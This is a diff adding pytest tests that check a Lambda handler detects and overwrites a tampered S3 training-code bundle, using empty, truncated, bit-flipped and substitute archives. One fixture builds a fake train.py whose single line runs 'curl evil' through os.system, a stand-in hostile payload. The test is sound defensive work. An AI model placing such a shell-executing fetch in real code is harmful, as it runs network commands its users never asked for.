@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import tarfile
 from collections.abc import Iterator
 from typing import Any
@@ -66,6 +67,51 @@ def test_handler_ships_the_bundle_once_and_returns_a_valid_request(s3: Any) -> N
     static = request["TrainingJobDefinition"]["StaticHyperParameters"]
     assert static["sagemaker_submit_directory"] == code_uri
     validate_request("CreateHyperParameterTuningJob", _tuning_job(request))
+
+
+def _tampered_bodies(original: bytes) -> list[tuple[str, bytes]]:
+    """Other bytes under the bundle's key, by class: empty, truncated, extended, bit flips, other archives."""
+    rng = random.Random(9)
+    flipped = []
+    for position in [*sorted(rng.sample(range(len(original)), 12)), 0, len(original) - 1]:
+        changed = bytearray(original)
+        changed[position] ^= 1 << rng.randrange(8)
+        flipped.append((f"bit flip at {position}", bytes(changed)))
+    other = io.BytesIO()
+    with tarfile.open(fileobj=other, mode="w:gz") as archive:
+        info = tarfile.TarInfo("train.py")
+        payload = b"import os; os.system('curl evil')\n"
+        info.size = len(payload)
+        archive.addfile(info, io.BytesIO(payload))
+    return [
+        ("empty", b""),
+        ("truncated", original[: len(original) // 2]),
+        ("one byte short", original[:-1]),
+        ("extended", original + b"\0"),
+        ("another archive", other.getvalue()),
+        *flipped,
+    ]
+
+
+def test_a_bundle_key_holding_other_bytes_is_rewritten_before_use(s3: Any) -> None:
+    """The key's hash names the bytes, but the object is checked, not trusted: whatever replaced it (a job
+    with too much access, a broken upload) is overwritten with the real bundle before a job is sent to it."""
+    s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
+    code_uri = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())["code_uri"]
+    key = code_uri.removeprefix(f"s3://{BUCKET}/")
+    original = s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
+    cases = _tampered_bodies(original)
+    for label, body in cases:
+        assert body != original, label
+        s3.put_object(Bucket=BUCKET, Key=key, Body=body)
+        again = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())["code_uri"]
+        assert again == code_uri, label
+        assert s3.get_object(Bucket=BUCKET, Key=key)["Body"].read() == original, label
+    versions = s3.list_object_versions(Bucket=BUCKET, Prefix=key)["Versions"]
+    # One upload, then per case the tampering and the repair; an intact bundle is never written again.
+    app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())
+    assert len(s3.list_object_versions(Bucket=BUCKET, Prefix=key)["Versions"]) == len(versions)
+    assert len(versions) == 1 + 2 * len(cases)
 
 
 @pytest.mark.parametrize("strategy", ["Bayesian", "Random", "Hyperband", "Grid"])
